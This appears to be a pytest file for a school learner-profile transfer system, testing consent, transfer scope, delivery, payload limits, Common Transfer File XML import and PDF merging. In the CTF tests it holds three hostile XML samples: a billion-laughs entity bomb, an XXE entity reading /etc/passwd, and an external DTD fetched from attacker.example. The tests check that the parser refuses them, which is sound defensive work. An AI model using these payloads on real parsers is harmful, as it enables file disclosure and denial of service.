"""Pure rules of the learner profile that travels: the profile, consent and delivery, the CTF, and the PDF pack merge."""

from __future__ import annotations

import io
import json
from datetime import date, datetime

import pytest

from ap_framework.rules import ctf, transfer
from ap_framework.rules import profile as prof
from ap_framework.rules.upn import with_check_letter

TODAY = date(2026, 3, 2)
DOMAINS = [
	{"code": "EMO", "name": "Emotional Regulation", "max_level": 5},
	{"code": "SOC", "name": "Social Interaction", "max_level": 5},
	{"code": "RTL", "name": "Readiness to Learn", "max_level": 5},
]


def assessment(name, on, scores, baseline=False, **kw):
	return {
		"name": name,
		"date": on,
		"is_baseline": baseline,
		"scores": [{"code": c, "score": s, "descriptor": f"{c} level {s}"} for c, s in scores.items()],
		**kw,
	}


def whole_profile(**kw):
	args = dict(
		pupil={"first_name": "Ada", "last_name": "Pupil", "date_of_birth": "2012-05-01", "upn": None},
		domains=DOMAINS,
		assessments=[
			assessment("DA-2", "2026-01-10", {"EMO": 3, "SOC": 2}, strengths="Art", barriers="Crowds"),
			assessment("DA-1", "2025-10-01", {"EMO": 1, "SOC": 2}, baseline=True, pupil_voice="I like quiet"),
		],
		plan={
			"strategies_that_work": "Calm space",
			"strategies_to_avoid": "Shouting",
			"triggers": "Noise",
			"early_warning_signs": "Hood up",
			"objectives": [
				{"objective": "Stay in class", "status": "In Progress"},
				{"objective": "Join a club", "status": "Achieved"},
			],
		},
		reviews=[{"date": "2026-02-01", "pupil_voice": "Better now", "progress": []}],
		inputs=[{"date": "2026-02-10", "pupil_words": "I want to go back"}],
		reintegration={
			"target_date": "2026-04-01",
			"monitoring_weeks": 6,
			"adaptations": "Quiet room",
			"stages": [],
		},
		risk={"overall_rating": "Medium", "factors": ["Travel"], "mitigations": "Escort"},
		narratives={"strengths": "Kind to others"},
	)
	args.update(kw)
	return prof.assemble(**args)


class TestProfile:
	def test_progress_uses_the_baseline_and_the_latest_with_descriptors(self):
		assert prof.domain_progress([], DOMAINS) == []
		rows = whole_profile()["sections"]["domains"]["rows"]
		emo = next(r for r in rows if r["code"] == "EMO")
		assert emo["baseline"] == {"score": 1, "date": "2025-10-01", "descriptor": "EMO level 1"}
		assert emo["latest"]["score"] == 3 and emo["change"] == 2
		assert [r["code"] for r in rows] == ["EMO", "SOC"]  # framework order, never-scored domains left out

	def test_without_a_flagged_baseline_the_first_assessment_is_the_starting_point(self):
		a = [assessment("A", "2025-01-01", {"EMO": 2}), assessment("B", "2025-02-01", {"EMO": 4})]
		(row,) = prof.domain_progress(a, DOMAINS)
		assert row["baseline"]["score"] == 2 and row["change"] == 2

	def test_sections_come_from_the_records_and_carry_the_narrative(self):
		s = whole_profile()["sections"]
		assert list(s) == list(prof.SECTIONS)
		assert s["strengths"] == {"title": "Strengths", "narrative": "Kind to others", "items": ["Art"]}
		assert "Noise" in s["triggers"]["items"] and "Risk rating Medium" in s["triggers"]["items"]
		assert s["early_warning"]["items"] == ["Hood up"]
		assert s["pupil_voice"]["items"] == ["I like quiet", "Better now", "I want to go back"]
		assert s["priorities"]["items"] == ["Stay in class", "Social Interaction"]
		assert "Quiet room" in s["environment"]["items"]
		assert prof.SAFEGUARDING not in s

	def test_safeguarding_only_when_given(self):
		s = whole_profile(safeguarding={"flags": ["Looked after"], "items": ["Note"]})["sections"]
		assert s["safeguarding"]["flags"] == ["Looked after"]

	def test_select_keeps_the_pupil_and_the_chosen_sections(self):
		cut = prof.select(whole_profile(), ["strengths", "domains"])
		assert list(cut["sections"]) == ["domains", "strengths"] and cut["pupil"]["first_name"] == "Ada"

	def test_age(self):
		assert prof.age_on(date(2014, 3, 3), TODAY) == 11 and prof.age_on(date(2014, 3, 2), TODAY) == 12

	def test_rows_one_narrative_per_section_and_attachments_that_are_the_pupils(self):
		problems = prof.check_rows(
			[(1, "Strengths"), (2, "Strengths")],
			[
				(1, "Pupil Plan", "PLAN-1", None),
				(2, "Pupil Plan", "PLAN-2", None),
				(3, None, None, None),
				(4, "User", "x", None),
			],
			{("Pupil Plan", "PLAN-1"): "PUP-1"},
		)
		assert [p.render() for p in problems] == [
			"Row 2: Strengths already has a narrative",
			"Row 2: Pupil Plan PLAN-2 is not this pupil's",
			"Row 3: choose a record or a file, not both or neither",
			"Row 4: User cannot go in a pack (Pupil Plan, Plan Review, Risk Assessment, Reintegration Plan, Domain Assessment)",
		]


def consent(**kw):
	base = dict(
		lawful_basis="Public task",
		parent_consent="Given",
		parent_consent_by="Mum",
		parent_consent_date=TODAY,
		pupil_consent="Given",
		pupil_age=14,
	)
	base.update(kw)
	return transfer.check_consent(transfer.Consent(**base), TODAY)


class TestConsent:
	def test_complete_consent_passes(self):
		assert consent() == []

	def test_missing_consent_names_every_field(self):
		problems = consent(lawful_basis=None, parent_consent="", pupil_consent="")
		assert {p.field for p in problems} == {"lawful_basis", "parent_consent", "pupil_consent"}
		assert all(p.kind == "consent" for p in problems)

	def test_given_consent_needs_who_and_when_not_in_the_future(self):
		problems = consent(parent_consent_by=" ", parent_consent_date=date(2026, 4, 1))
		assert {p.field for p in problems} == {"parent_consent_by", "parent_consent_date"}

	def test_young_pupil_need_not_be_asked_but_may_not_have_declined(self):
		assert consent(pupil_age=9, pupil_consent="") == []
		assert [p.field for p in consent(pupil_age=9, pupil_consent="Declined")] == ["pupil_consent"]
		assert consent(pupil_age=15, pupil_consent="Not appropriate") == []

	def test_safeguarding_needs_a_basis_other_than_consent_only(self):
		assert consent(channel="Safeguarding", parent_consent="", lawful_basis="Legal obligation") == []
		assert [p.field for p in consent(channel="Safeguarding", lawful_basis="Consent")] == ["lawful_basis"]


class TestSections:
	def test_partner_must_be_allowed_every_section(self):
		(p,) = transfer.check_sections(["domains", "priorities"], ["domains"], "Profile", "Oak School")
		assert p.render() == "Oak School may not receive: Remaining priorities" and p.kind == "transfer_scope"

	def test_safeguarding_travels_alone_on_its_own_channel(self):
		assert transfer.check_sections(["safeguarding"], ["safeguarding"], "Safeguarding", "X") == []
		assert transfer.check_sections(["safeguarding"], ["safeguarding"], "Profile", "X")
		assert transfer.check_sections(
			["safeguarding", "domains"], ["safeguarding", "domains"], "Safeguarding", "X"
		)

	def test_nothing_or_unknown(self):
		assert transfer.check_sections([], [], "Profile", "X")[0].field == "sections"
		assert "Unknown sections: bogus" in transfer.check_sections(["bogus"], [], "Profile", "X")[0].render()

	def test_titles_map_to_codes_in_profile_order(self):
		assert transfer.sections_of(["Strengths", "Development across the domains"]) == [
			"domains",
			"strengths",
		]

	def test_directions(self):
		assert transfer.allows("Send only", "send") and not transfer.allows("Send only", "receive")
		assert transfer.allows("Send and Receive", "receive") and not transfer.allows(None, "send")


class TestDelivery:
	def test_receipt_is_delivered(self):
		body = json.dumps({"message": {"status": "received", "reference": "INC-1"}})
		assert transfer.classify(200, body) == transfer.Outcome("delivered", "Delivered", "INC-1")
		dup = json.dumps({"message": {"status": "duplicate", "reference": "INC-1"}})
		assert transfer.classify(200, dup).reference == "INC-1"

	@pytest.mark.parametrize(
		"status,body,state",
		[
			(None, None, "retry"),
			(500, "boom", "retry"),
			(502, "", "retry"),
			(429, "", "retry"),
			(200, "<html>not json</html>", "retry"),
			(200, '{"message": {"status": "ok"}}', "retry"),
			(200, '{"message": "INC-1"}', "retry"),
			(401, "", "refused"),
			(403, "", "refused"),
			(417, '{"exception": "TransferScopeError: no"}', "refused"),
		],
	)
	def test_everything_else_is_retried_or_refused(self, status, body, state):
		assert transfer.classify(status, body, "ConnectionError").state == state

	def test_refusal_quotes_the_receivers_message(self):
		msgs = json.dumps([json.dumps({"message": "<b>Sections</b>: X may not receive: Strengths"})])
		out = transfer.classify(417, json.dumps({"_server_messages": msgs}))
		assert "X may not receive: Strengths" in out.message

	def test_backoff_doubles_and_is_capped(self):
		assert [transfer.backoff(i, 1.0) for i in (1, 2, 3)] == [1.0, 2.0, 4.0]
		assert transfer.backoff(10, 1.0, cap=30) == 30


def payload(**kw):
	snap = prof.select(whole_profile(), ["domains", "strengths"])
	snap["pupil"]["upn"] = with_check_letter("801200025001")
	out = {
		"protocol": 1,
		"idempotency_key": "a" * 32,
		"channel": "Profile",
		"sender": "https://a.example",
		"snapshot": snap,
	}
	out.update(kw)
	return out


class TestPayload:
	def test_a_good_payload_passes(self):
		assert transfer.check_payload(payload(), ["domains", "strengths"], False) == []

	def test_garbage_is_refused_with_reasons(self):
		assert transfer.check_payload("nope", [], False)[0].field == "payload"
		problems = transfer.check_payload(payload(protocol=9, idempotency_key="x", snapshot={}), [], False)
		assert {p.field for p in problems} == {"protocol", "idempotency_key", "snapshot"}

	def test_receiver_checks_sections_and_channel_itself(self):
		assert transfer.check_payload(payload(), ["domains"], False)[0].kind == "transfer_scope"
		p = payload(channel="Safeguarding")
		assert {x.field for x in transfer.check_payload(p, ["domains", "strengths"], False)} == {
			"channel",
			"sections",
		}

	def test_bad_pupil_and_domain_rows(self):
		p = payload()
		p["snapshot"]["pupil"].update(date_of_birth="yesterday", upn="X123")
		p["snapshot"]["sections"]["domains"]["rows"][0]["latest"]["score"] = "3"
		fields = {x.field for x in transfer.check_payload(p, ["domains", "strengths"], False)}
		assert fields == {"date_of_birth", "upn", "domains"}

	def test_a_pack_over_the_bound_is_refused_saying_the_bound(self):
		pack = "A" * (transfer.MAX_PACK_BYTES * 4 // 3 + 8)  # base64 of a little over 15 MB of PDF
		problems = transfer.check_payload(payload(pack=pack), ["domains", "strengths"], False)
		assert [(p.field, p.render()) for p in problems] == [
			("pack", "The PDF pack is 15.0 MB; a transfer takes at most 15 MB")
		]
		at_bound = "A" * (transfer.MAX_PACK_BYTES * 4 // 3)
		assert transfer.check_payload(payload(pack=at_bound), ["domains", "strengths"], False) == []

	def test_a_profile_over_the_bound_is_refused_saying_the_bound(self):
		p = payload()
		p["snapshot"]["sections"]["strengths"]["text"] = "x" * transfer.MAX_SNAPSHOT_BYTES
		problems = transfer.check_payload(p, ["domains", "strengths"], False)
		assert [(x.field, x.render()) for x in problems] == [
			("snapshot", "The profile is 2.0 MB; a transfer takes at most 2 MB")
		]

	def test_domain_rows_over_the_bound_are_refused_saying_the_bound(self):
		p = payload()
		rows = p["snapshot"]["sections"]["domains"]["rows"]
		rows[:] = rows * (transfer.MAX_DOMAIN_ROWS // len(rows) + 1)
		problems = transfer.check_payload(p, ["domains", "strengths"], False)
		assert [(x.field, x.render()) for x in problems] == [
			("domains", f"The profile has {len(rows):,} domain rows; a transfer takes at most 200")
		]
		del rows[transfer.MAX_DOMAIN_ROWS :]
		assert transfer.check_payload(p, ["domains", "strengths"], False) == []

	def test_history_maps_domains_by_code(self):
		rows = payload()["snapshot"]["sections"]["domains"]["rows"]
		history = transfer.domain_history(rows, {"EMO": "Emotional Regulation"})
		assert len(history) == 4
		assert history[0]["domain"] == "Emotional Regulation" and history[0]["point"] == "baseline"
		assert history[2]["domain"] is None and history[2]["domain_name_sent"] == "Social Interaction"


PUPILS = [
	{
		"upn": with_check_letter("801200025001"),
		"first_name": "Ada",
		"last_name": "Lovelace",
		"date_of_birth": date(2012, 5, 1),
		"gender": "Female",
		"year_group": "Year 9",
		"sen_status": "K",
		"former_upn": "",
		"contacts": [
			{
				"contact_name": "Anne Lovelace",
				"relationship": "Mother",
				"phone": "0123",
				"email": "a@example.org",
				"parental_responsibility": 1,
			}
		],
	},
	{
		"upn": with_check_letter("801200025002"),
		"first_name": "Bo",
		"last_name": "Smith",
		"date_of_birth": date(2011, 1, 31),
		"gender": "",
		"year_group": "Reception",
		"contacts": [],
	},
]


def export(pupils=PUPILS):
	return ctf.export(
		{"la_code": "801", "urn": "100000", "name": "Oak"},
		{"la_code": "802"},
		pupils,
		datetime(2026, 3, 2, 9),
	)


class TestCTF:
	def test_round_trip_gives_the_same_pupils(self):
		header, pupils, problems = ctf.parse(export(), TODAY)
		assert problems == [] and header["source_name"] == "Oak" and header["dest_la"] == "802"
		a, b = pupils
		assert (a.upn, a.first_name, a.last_name, a.date_of_birth, a.gender) == (
			PUPILS[0]["upn"],
			"Ada",
			"Lovelace",
			date(2012, 5, 1),
			"Female",
		)
		assert a.sen_status == "K" and a.year_group == "Year 9"
		assert a.contacts == [
			{
				"contact_name": "Anne Lovelace",
				"relationship": "Parent",
				"parental_responsibility": 1,
				"phone": "0123",
				"email": "a@example.org",
			}
		]
		assert b.sen_status is None and b.year_group == "Reception" and b.gender == ""

	def test_the_xml_is_a_ctf(self):
		xml = export()
		assert xml.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<CTfile>')
		assert "<CTFversion>24.0</CTFversion>" in xml and "<SENprovision>K</SENprovision>" in xml

	def test_every_bad_record_is_reported_by_position_and_upn(self):
		xml = export(
			[
				{**PUPILS[0], "upn": "A801200025001", "first_name": ""},
				{**PUPILS[1], "date_of_birth": date(2030, 1, 1)},
				PUPILS[1],
				{**PUPILS[0], "upn": ""},
			]
		).replace("<Sex>F</Sex>", "<Sex>Q</Sex>", 1)
		_header, pupils, problems = ctf.parse(xml, TODAY)
		rendered = [p.render() for p in problems]
		assert pupils == []  # every record has a problem: none is taken
		assert rendered[0].startswith(
			"Record 1 (A801200025001): UPN A801200025001 has the wrong check letter"
		)
		assert "Record 1 (A801200025001): the forename is missing" in rendered
		assert "Record 1 (A801200025001): sex Q is not M or F" in rendered
		assert f"Record 2 ({PUPILS[1]['upn']}): date of birth 2030-01-01 is in the future" in rendered
		assert f"Record 3 ({PUPILS[1]['upn']}): UPN also used by record 2" in rendered
		assert "Record 4 (no UPN): the UPN is missing" in rendered
		assert all(p.kind == "ctf" for p in problems)

	@pytest.mark.parametrize(
		"content,message",
		[
			("not xml", "not well-formed XML"),
			("<Other/>", "not a Common Transfer File"),
			("<CTfile><Header/></CTfile>", "holds no pupils"),
			('<!DOCTYPE x [<!ENTITY a "b">]><CTfile/>', "DOCTYPE"),
		],
	)
	def test_a_file_that_is_not_a_ctf_is_refused_whole(self, content, message):
		_h, pupils, problems = ctf.parse(content, TODAY)
		assert pupils == [] and message in problems[0].render()

	# Hostile files as they are written in the wild (OWASP XXE Prevention Cheat Sheet; CWE-776, CWE-611):
	# each is refused before anything is expanded or fetched, with the problem naming the CTF.
	BILLION_LAUGHS = (
		'<?xml version="1.0"?>\n<!DOCTYPE CTfile [\n <!ENTITY lol "lol">\n'
		+ "".join(
			f' <!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">\n'.replace("&lol0;", "&lol;")
			for i in range(1, 10)
		)
		+ "]>\n<CTfile><Header/><CTFpupilData><Pupil><Surname>&lol9;</Surname></Pupil></CTFpupilData></CTfile>"
	)
	XXE = (
		'<?xml version="1.0" encoding="UTF-8"?>\n'
		'<!DOCTYPE CTfile [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n'
		"<CTfile><Header/><CTFpupilData><Pupil><Surname>&xxe;</Surname></Pupil></CTFpupilData></CTfile>"
	)
	EXTERNAL_DTD = (
		'<?xml version="1.0" encoding="UTF-8"?>\n'
		'<!DOCTYPE CTfile SYSTEM "http://attacker.example/ctf.dtd">\n'
		"<CTfile><Header/><CTFpupilData><Pupil><Surname>&remote;</Surname></Pupil></CTFpupilData></CTfile>"
	)

	@pytest.mark.parametrize("content", [BILLION_LAUGHS, XXE, EXTERNAL_DTD], ids=["laughs", "xxe", "dtd"])
	def test_a_hostile_file_is_refused_before_it_is_expanded(self, content):
		header, pupils, problems = ctf.parse(content, TODAY)
		assert (header, pupils) == ({}, [])
		assert [(p.field, p.kind) for p in problems] == [("ctf", "ctf")]
		assert problems[0].render() == "The file declares a DOCTYPE, which a CTF never does"

	def test_a_genuine_ctf_still_parses_with_its_declaration_and_namespace_free_tags(self):
		header, pupils, problems = ctf.parse(export().encode("utf-8"), TODAY)
		assert problems == [] and len(pupils) == 2 and header["version"] == "24.0"

	def test_a_file_over_the_size_bound_is_refused_saying_the_bound(self):
		big = export() + " " * (ctf.MAX_BYTES + 1 - len(export()))
		_h, pupils, problems = ctf.parse(big, TODAY)
		assert pupils == [] and problems[0].field == "ctf"
		assert problems[0].render() == "The file is 20.0 MB; a CTF import takes at most 20 MB"
		assert ctf.parse(big[:-1], TODAY)[2] == []  # at the bound it is read

	def test_a_file_over_the_pupil_bound_is_refused_saying_the_bound(self, monkeypatch):
		monkeypatch.setattr(ctf, "MAX_PUPILS", 1)
		_h, pupils, problems = ctf.parse(export(), TODAY)
		assert (
			pupils == [] and problems[0].render() == "The file holds 2 pupils; a CTF import takes at most 1"
		)
		assert ctf.MAX_PUPILS == 1 and ctf.parse(export(PUPILS[:1]), TODAY)[2] == []

	def test_the_bounds_sit_above_a_whole_secondary_roll(self):
		# a 2,000-pupil roll with contacts is about 5 MB; the bounds leave room for an all-through trust
		assert (ctf.MAX_BYTES, ctf.MAX_PUPILS) == (20 * 2**20, 10_000)

	def test_relationship_and_year_codes(self):
		assert ctf.relationship_code("Grandmother") == "REL" and ctf.relationship_code("Neighbour") == "OTH"
		assert ctf.year_group_of("R") == "Reception" and ctf.year_group_of("15") is None


class TestPdfPack:
	"""The merge itself, on PDFs made here (the integration test renders the real print format)."""

	@staticmethod
	def make_pdf(pages: list[str]) -> bytes:
		from pypdf import PageObject, PdfWriter

		from ap_framework.transfer import pdf

		w = PdfWriter()
		for text in pages:
			page = PageObject.create_blank_page(width=595, height=842)
			pdf._stamp(page, text)  # a page whose text extraction finds `text`
			w.add_page(page)
		out = io.BytesIO()
		w.write(out)
		return out.getvalue()

	def test_sections_bookmarks_attachments_and_page_numbers(self):
		from pypdf import PdfReader

		from ap_framework.transfer import pdf

		profile = self.make_pdf(["Strengths here", "Triggers and risks", "more"])
		good, bad = pdf.check_attachments(
			[
				("Plan", self.make_pdf(["plan 1", "plan 2"])),
				("Notes.docx", b"PK\x03\x04 a word file"),
				("Broken", b"%PDF-1.4\n garbage with no xref"),
				("Missing", None),
			]
		)
		assert [t for t, _r in good] == ["Plan"]
		assert bad == {
			"Notes.docx": "not a PDF",
			"Broken": bad["Broken"],
			"Missing": "the file is empty or missing",
		} and bad["Broken"].startswith("the PDF is damaged")
		content, report = pdf.merge(profile, ["Strengths", "Triggers and risks", "Absent"], good, bad)
		reader = PdfReader(io.BytesIO(content))
		assert len(reader.pages) == report.pages == 5
		assert report.sections == {"Strengths": 0, "Triggers and risks": 1, "Absent": 1}
		assert report.included == {"Plan": (3, 2)}
		marks = pdf.outline_titles(reader)
		assert marks == [
			("Learner profile", 0),
			("Strengths", 0),
			("Triggers and risks", 1),
			("Absent", 1),
			("Plan", 3),
		]
		assert "Page 4 of 5" in reader.pages[3].extract_text()

	def test_a_profile_that_is_not_a_pdf_is_an_error(self):
		from ap_framework.transfer import pdf

		with pytest.raises(ValueError):
			pdf.merge(b"<html>", [], [], {})


class TestFollowUp:
	KEY = "a" * 32

	def answer(self, **row) -> str:
		base = {"reference": "INC-1", "status": "Awaiting Acceptance"}
		return json.dumps({"message": {"protocol": 1, "profiles": {self.KEY: {**base, **row}}}})

	def test_receipt_is_due_five_school_days_after_sending(self):
		assert transfer.receipt_due_by(date(2026, 11, 23)) == date(2026, 11, 30)  # Monday -> Monday
		assert transfer.receipt_due_by(date(2026, 11, 27)) == date(2026, 12, 4)  # Friday -> Friday
		assert transfer.receipt_due_by(date(2026, 11, 28)) == date(2026, 12, 4)  # Saturday -> Friday

	def test_follow_up_until_decided_and_for_safeguarding_until_confirmed(self):
		assert transfer.needs_follow_up("Profile", None, False)
		assert transfer.needs_follow_up("Profile", "Awaiting Acceptance", True)
		assert not transfer.needs_follow_up("Profile", "Accepted", False)
		assert transfer.needs_follow_up("Safeguarding", "Accepted", False)
		assert not transfer.needs_follow_up("Safeguarding", "Rejected", True)

	def test_statuses_become_our_fields_for_the_keys_we_asked_only(self):
		body = self.answer(status="Rejected", decided_by="Ann Lead", rejection_reason="Not ours")
		assert transfer.parse_statuses(body, [self.KEY]) == {
			self.KEY: {
				"remote_status": "Rejected",
				"receipt_confirmed_on": None,
				"receipt_confirmed_by": None,
				"remote_decided_on": None,
				"remote_decided_by": "Ann Lead",
				"remote_rejection_reason": "Not ours",
			}
		}
		assert transfer.parse_statuses(body, ["b" * 32]) == {}  # not asked about: ignored

	@pytest.mark.parametrize(
		"body",
		["<html>", "", None, '{"message": {"profiles": []}}', '{"message": "ok"}', "[1]"],
	)
	def test_garbage_is_no_answer(self, body):
		assert transfer.parse_statuses(body, [self.KEY]) is None

	def test_a_row_with_an_unknown_state_is_skipped(self):
		assert transfer.parse_statuses(self.answer(status="Lost"), [self.KEY]) == {}

	def test_changes_are_what_differs_and_a_receipt_is_never_unconfirmed(self):
		held = {
			"remote_status": "Awaiting Acceptance",
			"receipt_confirmed_on": datetime(2026, 11, 24, 9, 30, 5, 123456),
			"receipt_confirmed_by": "Dee Dsl",
		}
		reported = {
			"remote_status": "Accepted",
			"receipt_confirmed_on": "2026-11-24 09:30:05",
			"receipt_confirmed_by": None,
			"remote_decided_by": "Ann Lead",
		}
		assert transfer.changes(held, reported) == {
			"remote_status": "Accepted",
			"remote_decided_by": "Ann Lead",
		}
		assert transfer.changes(held, {}) == {}
